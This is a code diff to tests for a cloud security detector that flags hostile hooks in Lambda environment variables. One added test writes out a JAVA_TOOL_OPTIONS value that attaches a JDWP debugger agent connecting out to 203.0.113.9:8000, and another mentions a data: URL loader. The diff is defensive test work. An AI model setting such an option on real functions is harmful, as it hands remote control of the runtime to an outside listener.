@@ -351,7 +351,7 @@ def test_hook_env_a_loader_spelled_with_underscores_beside_a_vendor_hook_is_not_
     assert found["billing"].severity is Severity.MEDIUM
     assert found["billing"].details["undocumented"] == ["ssl.cnf"]
     assert found["audit"].severity is Severity.HIGH and found["audit"].details["vendor"] is None
-    assert "it loads a data: URL: code written into the value" in found["audit"].summary
+    assert "it loads a data: URL (code written into the value)" in found["audit"].summary
 
 
 NEWRELIC_DOTNET = f"arn:aws:lambda:{REGION}:451483290750:layer:NewRelicDotnet8X:12"
@@ -380,6 +380,22 @@ def test_hook_env_native_loaders(builder: CaseBuilder) -> None:
     assert found["reports"].severity is Severity.INFO
     assert found["reports"].details["vendor"] == "New Relic"
     assert found["audit"].severity is Severity.HIGH and found["audit"].details["vendor"] is None
+
+
+def test_hook_env_jvm_agents(builder: CaseBuilder) -> None:
+    # A native agent the function's own code ships is a hook like any NODE_OPTIONS target
+    # found in no layer; a JDWP agent that dials out hands the JVM to whoever listens there.
+    dial = "-agentlib:jdwp=transport=dt_socket,address=203.0.113.9:8000"
+    envs = {
+        "orders": {"JAVA_TOOL_OPTIONS": "-agentpath:/var/task/lib/libagent.so"},
+        "billing": {"JAVA_TOOL_OPTIONS": f"-XX:+TieredCompilation {dial}"},
+    }
+    for name, env in envs.items():
+        builder.versions(name, [function_config(name, runtime="java21", env=env)])
+    found = {f.resource.split(":")[6]: f for f in run_detector(builder, cfg_hook_env.DETECTOR)}
+    assert found["orders"].severity is Severity.MEDIUM
+    assert found["billing"].severity is Severity.HIGH
+    assert "JDWP debugger agent connecting out to 203.0.113.9:8000" in found["billing"].summary
 
 
 def test_hook_env_quiet_for_ordinary_variables(builder: CaseBuilder) -> None:
